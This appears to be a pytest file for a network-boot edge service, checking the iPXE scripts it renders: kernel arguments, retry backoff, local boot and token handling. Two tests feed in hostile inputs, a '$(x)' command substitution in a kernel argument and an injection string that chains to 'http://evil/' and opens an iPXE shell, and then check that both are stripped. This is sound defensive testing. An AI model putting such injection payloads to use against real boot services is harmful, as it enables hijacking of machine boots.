"""The iPXE scripts the edge renders for every kind of answer."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from activities.domain.boot import runtime_image_args
from activities.domain.edge import EdgeBootRequest
from activities.domain.machine import BootInstruction
from bootedge import scripts

EDGE = "http://10.213.0.3:8080"


def _instruction(action: str, **extra) -> BootInstruction:
    return BootInstruction(action=action, machine_id="m-1", boot=3, state="boot-2", is_new=False, **extra)


def test_runtime_and_discovery_boots_load_their_image_with_the_token():
    for action, image, initrd in (("discovery", "discovery", "initrd.gz"), ("runtime", "runtime", "initrd.img")):
        script = scripts.boot(EDGE, _instruction(action), "TOKEN")
        lines = script.splitlines()
        assert lines[0] == "#!ipxe" and lines[-1] == "boot"
        kernel = next(line for line in lines if line.startswith("kernel "))
        assert kernel.split()[1] == f"{EDGE}/images/{image}/vmlinuz"
        assert f"initrd={initrd}" in kernel.split()  # the EFI stub needs the initrd named
        for karg in ("tempered.machine=m-1", "tempered.boot=3", "tempered.token=TOKEN", f"tempered.url={EDGE}"):
            assert karg in kernel.split()
        assert f"initrd {EDGE}/images/{image}/{initrd}" in lines


def test_the_runtime_boot_fetches_its_root_and_seed_and_appends_the_machines_kargs():
    instruction = _instruction("runtime", kargs=["mitigations=off", "sysctl.vm.swappiness=0 quiet", "bad$(x)"])
    kernel = next(line for line in scripts.boot(EDGE, instruction, "TOKEN").splitlines() if line.startswith("kernel "))
    args = kernel.split()[3:]
    base = runtime_image_args(f"{EDGE}/images/runtime/root.squashfs")
    assert args[: len(base)] == base and any(f"{EDGE}/images/runtime/root.squashfs" in a for a in base)
    assert f"ds=nocloud-net;s={EDGE}/machines/m-1/TOKEN/" in args
    assert args[-3:] == ["mitigations=off", "sysctl.vm.swappiness=0", "quiet"]  # the unsafe one is left out
    assert not any("$(" in a for a in args)
    discovery = scripts.boot(EDGE, _instruction("discovery", kargs=["mitigations=off"]), "TOKEN")
    assert "mitigations=off" not in discovery and "nocloud" not in discovery


def test_hold_backs_off_exponentially_up_to_five_minutes():
    assert [scripts.hold_delay(a) for a in range(8)] == [5, 10, 20, 40, 80, 160, 300, 300]
    request = EdgeBootRequest(mac="52:54:00:00:00:01", uuid="8d6f1c1e-3b7a-4c2e-9f00-0000000000a1", platform="efi")
    script = scripts.hold(EDGE, request, 1, "waiting for the control plane")
    assert "sleep 10" in script
    retry = next(line for line in script.splitlines() if line.startswith("chain "))
    assert retry.startswith(f"chain {EDGE}/boot.ipxe?") and "attempt=2" in retry and "platform=efi" in retry
    assert "uuid=8d6f1c1e-3b7a-4c2e-9f00-0000000000a1" in retry


def test_local_boot_differs_between_bios_and_efi():
    assert "sanboot --no-describe --drive 0x80" in scripts.local("pcbios")
    efi = scripts.local("efi").splitlines()
    assert efi[-1] == "exit" and not any("sanboot" in line for line in efi)


def test_console_text_cannot_inject_ipxe_commands():
    hostile = 'x\n#!ipxe\nshell ${net0/mac} && chain http://evil/ || "quoted"; exit'
    for script in (scripts.refuse(hostile), scripts.local("efi", hostile)):
        echo = next(line for line in script.splitlines() if line.startswith("echo Tempered"))
        assert "\n" not in echo and "$" not in echo and "&" not in echo and "|" not in echo and '"' not in echo
        assert not any(line.startswith(("shell", "chain http://evil")) for line in script.splitlines())


def test_the_first_script_asks_again_with_ipxe_variables():
    script = scripts.chain(EDGE)
    # ${uuid} as text (hex and hyphens): ${uuid:uristring} would send the raw 16 bytes
    assert "${netX/mac}" in script and "uuid=${uuid}&" in script and "${platform}" in script


def test_every_kernel_argument_appears_once():
    """The image's own arguments and the edge's (console=, ...) once each, even when a machine's
    kargs repeat one of them."""
    kargs = ["mitigations=off", "console=tty0", "panic=30 quiet"]
    for action in ("discovery", "runtime"):
        script = scripts.boot(EDGE, _instruction(action, kargs=kargs), "TOKEN")
        kernel = next(line for line in script.splitlines() if line.startswith("kernel ")).split()
        assert len(kernel) == len(set(kernel)), [a for a in kernel if kernel.count(a) > 1]
        assert kernel.count("console=tty0") == 1 and kernel.count("console=ttyS0,115200n8") == 1
    runtime = scripts.boot(EDGE, _instruction("runtime", kargs=kargs), "TOKEN")
    # kept at its last place: the machine's console=tty0 comes after the image's serial console
    assert next(line for line in runtime.splitlines() if line.startswith("kernel ")).endswith(
        " mitigations=off console=tty0 panic=30 quiet"
    )


def test_importing_the_edge_does_not_load_the_image_builders():
    """The edge renders boot scripts; the builders (apt, mmdebstrap, rich) are the CLI's."""
    code = "import sys, bootedge.edge; print(sorted(m for m in sys.modules if m.startswith('bootedge.images')))"
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                            cwd=Path(__file__).resolve().parents[2])
    assert result.stdout.strip() == "[]"
